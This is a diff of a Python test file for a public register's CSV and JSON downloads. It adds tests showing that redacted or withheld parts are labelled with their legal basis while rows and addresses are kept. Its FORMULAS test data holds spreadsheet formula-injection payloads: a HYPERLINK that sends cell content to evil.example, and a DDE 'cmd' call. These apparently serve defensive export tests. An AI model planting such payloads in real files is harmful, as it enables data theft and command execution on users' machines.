@@ -7,6 +7,7 @@ import io
 import unicodedata
 from dataclasses import replace
 from decimal import Decimal
+from typing import Any
 
 import orjson
 import pytest
@@ -15,6 +16,8 @@ from flask.testing import FlaskClient
 from hypothesis import given
 from hypothesis import strategies as st
 
+from register.core.calendar import now_utc
+from register.core.content import Document
 from register.core.kind import PartFile
 from register.core.questions import Question, day
 from register.decisions.content import Criterion, Rationale
@@ -22,9 +25,13 @@ from register.downloads.cells import lines, written
 from register.downloads.columns import heading, table
 from register.downloads.entries import batches
 from register.downloads.writing import About, json_file
-from register.extensions import reading
+from register.extensions import reading, writing
 from register.kinds import KINDS, kind_named
+from register.publishing import removing
+from register.publishing.acts import Publication
+from register.settings import Settings
 from register.web.current import now
+from tests.consultations.builders import consultation, view
 from tests.decisions.builders import REDACTED
 from tests.downloads.reading import table as read
 from tests.downloads.reading import whole
@@ -50,6 +57,10 @@ FORMULAS = (
     "﹣1",
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
+)
+DOCUMENTS = (
+    Document(title="One", url="https://example.org/1"),
+    Document(title="Two", url="https://example.org/2"),
 )
 HARMLESS = ("Rent", "1 = 1", "a-b", "(-1)", "'quoted'", '"quoted"', "£12,000", "– a dash", "", "é", "日本", "5.00")
 
@@ -107,13 +118,66 @@ def test_days_sums_and_counts_are_data_and_the_rest_is_words(app: Flask, client:
     assert (mixed["Amount in pounds"], mixed["Public body"]) == ("1234.50", "Coalmoor District Council (invented)")
 
 
-def test_what_was_removed_or_withheld_says_so(app: Flask, client: FlaskClient) -> None:
-    publish_now(app, publication(rationale=Rationale(reasons=REDACTED), summary=None))
+def remove(app: Flask, settings: Settings, unit: str, *, kind: str = "redact") -> None:
+    """Redact a unit of the first entry, or put it on hold."""
+    why: dict[str, Any] = {"entry_id": 1, "note": "", "by_id": 1, "at": now_utc()}
+    does: dict[str, Any] = {"role": "publisher", "settings": settings}
+    with app.app_context(), writing() as connection:
+        if kind == "hold":
+            removing.hold(connection, names=[unit], reason="mistake", **why, **does)
+            return
+        asked = removing.ask(
+            connection,
+            action="redact",
+            removes={1: [unit]},
+            category="personal_data",
+            legal_basis="uk_gdpr_17",
+            **why,
+        )
+        removing.approve(connection, request_id=asked.id, approver_id=2, at=now_utc(), **does)
+
+
+def test_what_was_removed_or_withheld_says_so(app: Flask, client: FlaskClient, settings: Settings) -> None:
+    publish_now(app, publication(summary=None, documents=DOCUMENTS))
+    for unit in ("rationale.reasons", "documents/2"):
+        remove(app, settings, unit)
+    remove(app, settings, "contact", kind="hold")
+
     row = read(client, "/decisions.csv")[0]
-    assert row["Rationale: Reasons"].startswith("This part was removed on 1 June 2026")
+    assert row["Rationale: Reasons"].startswith("This part has been withheld: Personal data, UK GDPR, Article 17")
+    assert row["Documents"].startswith("One, https://example.org/1; One part of this has been removed: Personal data")
+    assert row["Contact"].startswith("This part has been withheld: on hold since ")
     assert row["Summary"] == ""
     content = whole(client, "/decisions.json")["records"][0]["content"]
-    assert content["rationale"]["reasons"] == REDACTED.model_dump(mode="json")
+    assert content["rationale"]["reasons"]["category"] == "Personal data"
+    assert content["documents"] == [{"title": "One", "url": "https://example.org/1"}]
+    assert [(one["unit"], one["kind"]) for one in content["removed"]] == [
+        ("rationale.reasons", "redact"),
+        ("documents/2", "redact"),
+        ("contact", "hold"),
+    ]
+
+
+def test_an_item_that_was_removed_keeps_its_row_and_its_address(
+    app: Flask, client: FlaskClient, settings: Settings
+) -> None:
+    document = consultation(views=tuple(view(number) for number in (1, 2, 17))).model_dump(
+        mode="json", exclude_none=True
+    )
+    publish_now(app, Publication(kind_named("consultation"), document, "authored", "publisher"))
+    remove(app, settings, "views/17")
+
+    rows = read(client, "/consultations/views.csv")
+    assert [row["Number"] for row in rows] == ["1", "2", "17"]
+    assert rows[2]["Address"].endswith("#view-17")
+    assert rows[2]["Theme"].startswith(
+        "View 17 has been removed: Personal data, UK GDPR, Article 17: right to erasure, "
+    )
+    assert not any(rows[2][name] for name in ("What people said", "What was done"))
+    records = whole(client, "/consultations/views.json")["records"]
+    assert (records[2]["address"], records[2]["removed"]["unit"]) == (rows[2]["Address"], "views/17")
+    listed = read(client, "/consultations.csv")[0]
+    assert listed["Views, and what became of each: how many"].startswith("2; One part of this has been removed: ")
 
 
 def test_headings_say_what_a_field_belongs_to() -> None:
@@ -159,7 +223,7 @@ def test_a_part_has_a_row_for_each_item_with_its_entry_in_front(app: Flask, clie
     shown = table("https://register.test", kind_named("decision"), CRITERIA)
     assert shown.headings == ("Reference", "Title", "Address", "Criterion", "Weight", "On")
     address = "https://register.test/decisions/FD-2027-000"
-    removed = "This part was removed on 1 June 2026 because: personal data (UK GDPR, article 6)."
+    removed = "This part has been withheld: personal data, UK GDPR, article 6, 1 June 2026."
     assert [row for one in made for row in shown.rows(one)] == [
         ["FD-2027-0001", "One", f"{address}1#criterion-4", "=Need", "", "2026-01-31"],
         ["FD-2027-0001", "One", f"{address}1", "Reach", "half", ""],
